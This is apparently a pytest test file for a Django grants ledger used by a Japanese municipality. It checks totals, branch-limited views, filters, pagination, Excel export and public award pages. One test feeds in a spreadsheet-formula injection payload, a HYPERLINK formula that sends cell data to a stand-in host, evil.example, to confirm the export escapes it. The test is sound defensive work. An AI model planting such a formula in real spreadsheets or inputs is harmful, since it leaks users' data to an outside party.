"""The grants ledger (台帳), each community's history, and the public totals."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from kyodo.fiscal_years import FiscalYear
from kyodo.grants.ledger import queries as ledger
from kyodo.grants.ledger import views as ledger_views
from kyodo.grants.models import Payment
from tests.factories import CommunityFactory, DistrictFactory
from tests.grants.factories import city_user, make_application, open_rule

YEAR = FiscalYear.current().year


def _pay(application, kind, amount_yen):
    Payment.objects.create(application=application, kind=kind, amount_yen=amount_yen, paid_on=dt.date.today(),
                           recorded_by=city_user())


def _community(branch, name=None, **more):
    values = {"district": DistrictFactory(branch_office=branch), **more}
    if name:
        values["name"] = name
    return CommunityFactory(**values)


@pytest.fixture
def known_set(world):
    """Five applications of the current year's activity program, in five states, two branches.

    community_a (A): closed 100,000, paid 100,000 (final), refunded 5,000 → balance −5,000
    community_b (B): settled 200,000, nothing paid yet → balance −200,000
    さくら (A): awarded 50,000, advance 20,000 paid
    draft (B) 30,000 and rejected (A) 40,000: requested only."""
    closed = make_application(world.community_a, status="closed", amount_yen=100_000)
    _pay(closed, "refund", 5_000)
    make_application(world.community_b, status="settled", amount_yen=100_000, lines=2)
    awarded = make_application(_community(world.branch_a, "さくら地域協働体", name_kana="さくらちいききょうどうたい"),
                               status="awarded", amount_yen=50_000)
    _pay(awarded, "advance", 20_000)
    make_application(_community(world.branch_b, "下書き地域協働体"), status="draft", amount_yen=30_000)
    make_application(_community(world.branch_a, "不交付地域協働体"), status="rejected", amount_yen=40_000)
    return open_rule()


def _ledger_url(rule, **params):
    url = reverse("grants_staff:ledger", args=[rule.program.code, rule.fiscal_year])
    return url + ("?" + "&".join(f"{key}={value}" for key, value in params.items()) if params else "")


def test_the_ledger_sums_each_application_and_the_whole_set(known_set, world):
    result = ledger.ledger(known_set, user=world.users["city_admin"])
    rows = {row.community_name: row for row in ledger.rows_of(result.applications)}
    closed = rows["あおば地域協働体"]
    assert (closed.requested_yen, closed.awarded_yen, closed.paid_yen, closed.refunded_yen, closed.settled_yen,
            closed.balance_yen) == (100_000, 100_000, 100_000, 5_000, 100_000, -5_000)
    settled = rows["みどり地域協働体"]
    assert (settled.awarded_yen, settled.paid_yen, settled.settled_yen, settled.balance_yen) == (
        200_000, 0, 200_000, -200_000)
    awarded = rows["さくら地域協働体"]
    assert (awarded.awarded_yen, awarded.paid_yen, awarded.settled_yen, awarded.balance_yen) == (
        50_000, 20_000, None, None)
    assert rows["下書き地域協働体"].awarded_yen is None and rows["下書き地域協働体"].status_label == "下書き"
    assert result.totals == ledger.LedgerTotals(
        count=5, requested_yen=420_000, awarded_yen=350_000, paid_yen=120_000, refunded_yen=5_000,
        settled_yen=300_000, balance_yen=-205_000,
    )
    assert result.status_counts == {"closed": 1, "settled": 1, "awarded": 1, "draft": 1, "rejected": 1}


def test_budget_left_is_the_budget_less_the_awards(known_set, world):
    known_set.budget_yen = 400_000
    known_set.save()
    result = ledger.ledger(known_set, user=world.users["city_admin"])
    assert result.budget_left_yen == 50_000
    page = world.client("city_admin").get(_ledger_url(known_set)).content.decode()
    assert "400,000円" in page and "50,000円" in page and "350,000円" in page
    known_set.budget_yen = 300_000
    known_set.save()
    page = world.client("city_admin").get(_ledger_url(known_set)).content.decode()
    assert "-50,000円" in page and "予算超過" in page


def test_branch_staff_see_only_their_branch(known_set, world):
    result = ledger.ledger(known_set, user=world.users["branch_staff"])
    names = {row.community_name for row in ledger.rows_of(result.applications)}
    assert names == {"あおば地域協働体", "さくら地域協働体", "不交付地域協働体"}
    assert result.totals.count == 3 and result.totals.awarded_yen == 150_000
    page = world.client("branch_staff").get(_ledger_url(known_set)).content.decode()
    assert "みどり地域協働体" not in page and "下書き地域協働体" not in page
    assert 'name="branch"' not in page  # their branch only: nothing to choose


def test_the_page_shows_rows_totals_chart_and_wareki(known_set, world):
    page = world.client("city_admin").get(_ledger_url(known_set)).content.decode()
    assert "あおば地域協働体" in page and "-205,000円" in page and "420,000円" in page
    assert FiscalYear(YEAR).wareki in page
    assert "<svg" in page and 'aria-labelledby="ledger-chart-title"' in page
    assert "<caption" in page and 'for="ledger-q"' in page and 'for="ledger-status"' in page


@pytest.mark.parametrize(("params", "expected"), [
    ({"status": "awarded"}, {"さくら地域協働体"}),
    ({"branch": "branch-b"}, {"みどり地域協働体", "下書き地域協働体"}),
    ({"q": "サクラ"}, {"さくら地域協働体"}),  # katakana finds the hiragana kana
    ({"q": "ｻｸﾗ"}, {"さくら地域協働体"}),  # so does half-width
    ({"q": "みどり", "status": "draft"}, set()),
    ({"status": "nonsense"}, {"あおば地域協働体", "みどり地域協働体", "さくら地域協働体", "下書き地域協働体",
                              "不交付地域協働体"}),
])
def test_filters_narrow_the_rows_and_the_totals(known_set, world, params, expected):
    result = ledger.ledger(known_set, user=world.users["city_admin"], filters=ledger.LedgerFilters.of(params))
    assert {row.community_name for row in ledger.rows_of(result.applications)} == expected
    assert result.totals.count == len(expected)
    response = world.client("city_admin").get(_ledger_url(known_set), params)
    assert response.status_code == 200
    assert response.context["ledger"].totals.count == len(expected)


def test_pagination_keeps_the_totals_of_the_whole_filtered_set(known_set, world, monkeypatch):
    monkeypatch.setattr(ledger_views, "PAGE_SIZE", 2)
    client = world.client("city_admin")
    first = client.get(_ledger_url(known_set))
    last = client.get(_ledger_url(known_set, page=3))
    assert len(first.context["rows"]) == 2 and len(last.context["rows"]) == 1
    assert first.context["ledger"].totals == last.context["ledger"].totals
    assert first.context["ledger"].totals.count == 5
    page = first.content.decode()
    assert "5件中 1/3ページ" in page and "-205,000円" in page
    filtered = client.get(_ledger_url(known_set, branch="branch-a"))
    assert "3件中 1/2ページ" in filtered.content.decode() and "branch=branch-a&amp;page=2" in filtered.content.decode()


def test_the_program_year_switcher_goes_to_that_ledger(known_set, world):
    other = open_rule("startup")
    client = world.client("city_admin")
    response = client.get(_ledger_url(known_set), {"program": "startup", "year": str(YEAR)})
    assert response.status_code == 302 and response["Location"] == _ledger_url(other)
    # An unknown combination stays on the ledger.
    assert client.get(_ledger_url(known_set), {"program": "nope", "year": "1900"}).status_code == 200


def _sheet(response):
    return load_workbook(BytesIO(response.getvalue())).active  # streamed: getvalue(), not .content


def test_the_excel_export_has_the_rows_totals_and_budget(known_set, world):
    response = world.client("city_admin").get(
        reverse("grants_staff:ledger-export", args=[known_set.program.code, known_set.fiscal_year]))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    rows = [list(row) for row in _sheet(response).iter_rows(values_only=True)]
    by_name = {row[0]: row for row in rows if row and row[0]}
    assert by_name["あおば地域協働体"][1] == "A支所"
    assert by_name["あおば地域協働体"][3:10] == ["完了", 100_000, 100_000, 100_000, 5_000, 100_000, -5_000]
    assert by_name["さくら地域協働体"][5:10] == [50_000, 20_000, 0, None, None]
    assert by_name["合計"][4:10] == [420_000, 350_000, 120_000, 5_000, 300_000, -205_000]
    assert by_name["予算額"][1] == 30_000_000
    assert by_name["交付決定額の合計"][1] == 350_000
    assert by_name["予算残額"][1] == 30_000_000 - 350_000
    assert by_name["下書き"][1] == 1


def test_the_excel_ledger_has_decision_settlement_and_payment_dates_and_prints_on_a4_landscape(known_set, world):
    import datetime as dt

    sheet = _sheet(world.client("city_admin").get(
        reverse("grants_staff:ledger-export", args=[known_set.program.code, known_set.fiscal_year])))
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header_index = next(index for index, row in enumerate(rows) if row and row[0] == "地域協働体")
    assert rows[header_index][10:14] == ["交付決定番号", "交付決定日", "確定日", "支払日"]
    closed = next(row for row in rows if row and row[0] == "あおば地域協働体")
    number, decided, settled, paid = closed[10:14]
    assert number and all(isinstance(day, dt.datetime | dt.date) for day in (decided, settled, paid))
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.print_title_rows == f"${header_index + 1}:${header_index + 1}"
    assert sheet.freeze_panes == f"A{header_index + 2}"
    assert sheet.column_dimensions["A"].width >= 12 and sheet.oddFooter.center.text == "&P / &N"


def test_the_excel_export_follows_the_filters_and_the_branch(known_set, world):
    url = reverse("grants_staff:ledger-export", args=[known_set.program.code, known_set.fiscal_year])
    names = {row[0] for row in _sheet(world.client("branch_staff").get(url)).iter_rows(values_only=True)}
    assert "あおば地域協働体" in names and "みどり地域協働体" not in names
    names = {row[0] for row in _sheet(world.client("city_admin").get(url, {"status": "settled"}))
             .iter_rows(values_only=True)}
    assert "みどり地域協働体" in names and "あおば地域協働体" not in names


def test_the_excel_export_is_formula_safe(world):
    hostile = _community(world.branch_a, '=HYPERLINK("http://evil.example/?"&A1,"詳細")')
    application = make_application(hostile, status="awarded", title="+81-191-21-0000")
    response = world.client("city_admin").get(
        reverse("grants_staff:ledger-export", args=[application.program.code, application.fiscal_year]))
    cells = [cell for row in _sheet(response).iter_rows(values_only=True) for cell in row if isinstance(cell, str)]
    assert "'" + hostile.name in cells and "'+81-191-21-0000" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# ---- history -------------------------------------------------------------------------------


def test_a_community_history_lists_every_year_newest_first_with_year_totals(world):
    make_application(world.community_a, status="closed", fiscal_year=YEAR - 1, amount_yen=80_000)
    make_application(world.community_a, status="settled", code="startup", fiscal_year=YEAR - 1, amount_yen=20_000)
    make_application(world.community_a, status="awarded", fiscal_year=YEAR, amount_yen=90_000)
    make_application(world.community_b, status="closed", fiscal_year=YEAR, amount_yen=70_000)
    years = ledger.community_history(world.community_a)
    assert [year.fiscal_year.year for year in years] == [YEAR, YEAR - 1]
    assert years[1].totals.awarded_yen == 100_000 and years[1].totals.settled_yen == 100_000
    assert years[1].totals.paid_yen == 80_000 and years[0].totals.settled_yen == 0
    response = world.client("liaison").get(reverse("grants_staff:community-history", args=["aoba"]))
    page = response.content.decode()
    assert response.status_code == 200
    assert page.index(f"<h2>{FiscalYear(YEAR).label}") < page.index(f"<h2>{FiscalYear(YEAR - 1).label}")
    assert "100,000円" in page and "190,000円" in page and "<svg" in page and "70,000円" not in page


# ---- public totals -------------------------------------------------------------------------


def test_public_totals_count_only_awarded_or_later_applications(known_set, world):
    make_application(_community(world.branch_b, "申請中地域協働体"), status="submitted", amount_yen=60_000)
    make_application(_community(world.branch_b, "推薦済地域協働体"), status="recommended", amount_yen=60_000)
    totals = {(item.program.code, item.fiscal_year.year): item for item in ledger.public_program_totals()}
    activity = totals[("activity", YEAR)]
    assert (activity.award_count, activity.awarded_yen, activity.settled_yen, activity.budget_yen) == (
        3, 350_000, 300_000, 30_000_000)
    awards = ledger.public_awards(YEAR)
    assert {award.community_name for award in awards} == {"あおば地域協働体", "みどり地域協働体", "さくら地域協働体"}
    response = world.client("anonymous").get(reverse("grants:totals"), {"year": str(YEAR)})
    page = response.content.decode()
    assert response.status_code == 200
    for hidden in ("下書き地域協働体", "不交付地域協働体", "申請中地域協働体", "推薦済地域協働体"):
        assert hidden not in page
    assert "350,000円" in page and "防災訓練" not in page and "t_secretariat" not in page
    assert reverse("grants:totals") in world.client("anonymous").get(reverse("grants:index")).content.decode()


def test_public_community_totals_show_awards_across_years_and_nothing_else(world):
    make_application(world.community_a, status="closed", fiscal_year=YEAR - 1, amount_yen=80_000)
    make_application(world.community_a, status="awarded", fiscal_year=YEAR, amount_yen=90_000)
    make_application(world.community_a, status="draft", code="startup", fiscal_year=YEAR, amount_yen=11_000)
    page = world.client("anonymous").get(reverse("grants:community-totals", args=["aoba"])).content.decode()
    assert "80,000円" in page and "90,000円" in page and "未確定" in page
    assert "11,000円" not in page and "設立準備" not in page and "地域協働体支援事業補助金" not in page
    assert world.client("anonymous").get(reverse("grants:community-totals", args=["nowhere"])).status_code == 404


# ---- query counts ----------------------------------------------------------------------------


def _queries(client, url):
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context)


def _grow_ledger(world, count):
    states = ["draft", "submitted", "awarded", "settled", "closed"]
    from kyodo.grants.models import Application

    for index in range(count - Application.objects.filter(fiscal_year=YEAR, program__code="activity").count()):
        community = _community(world.branch_a if index % 2 else world.branch_b)
        application = make_application(community, status=states[index % len(states)])
        if application.status == "awarded":
            _pay(application, "advance", 1_000)


HISTORY_PROGRAMS = ["activity", "startup", "secretariat"]


def _grow_history(world, count):
    made = 0
    for year in range(YEAR, YEAR - 10, -1):
        for code in HISTORY_PROGRAMS:
            if made >= count:
                return
            make_application(world.community_a, status="closed" if year < YEAR else "awarded", code=code,
                             fiscal_year=year)
            made += 1


@pytest.mark.parametrize("role", ["city_admin", "branch_staff"])
def test_the_ledger_runs_constant_queries(world, role):
    rule = open_rule()
    client = world.client(role)
    urls = [_ledger_url(rule), _ledger_url(rule, status="submitted", q="テスト"),
            reverse("grants_staff:ledger-export", args=[rule.program.code, rule.fiscal_year])]
    _grow_ledger(world, 3)
    few = [_queries(client, url) for url in urls]
    _grow_ledger(world, 15)
    assert [_queries(client, url) for url in urls] == few


def test_the_history_and_public_pages_run_constant_queries(world):
    urls = [("city_admin", reverse("grants_staff:community-history", args=["aoba"])),
            ("anonymous", reverse("grants:totals")),
            ("anonymous", reverse("grants:community-totals", args=["aoba"]))]
    _grow_history(world, 3)
    _grow_ledger(world, 3)
    few = [_queries(world.client(role), url) for role, url in urls]
    _grow_history(world, 15)
    _grow_ledger(world, 15)
    assert [_queries(world.client(role), url) for role, url in urls] == few


def test_the_public_totals_page_pages_and_searches_the_communities(world, monkeypatch):
    from kyodo.grants import views
    from tests.grants.factories import make_application

    monkeypatch.setattr(views, "PAGE_SIZE", 1)
    a = make_application(world.community_a, status="awarded")
    make_application(world.community_b, status="closed")
    client = world.client("anonymous")
    first = client.get(reverse("grants:totals"), {"year": a.fiscal_year})
    assert first.context["page_obj"].paginator.count == 2 and len(first.context["awards"]) == 1
    assert 'rel="next"' in first.content.decode()
    found = client.get(reverse("grants:totals"), {"year": a.fiscal_year, "q": "ミドリ"}).context["awards"]
    assert [award.community_slug for award in found] == ["midori"]
    none = client.get(reverse("grants:totals"), {"year": a.fiscal_year, "q": "存在しない"}).content.decode()
    assert "条件に合う地域協働体はありません。" in none
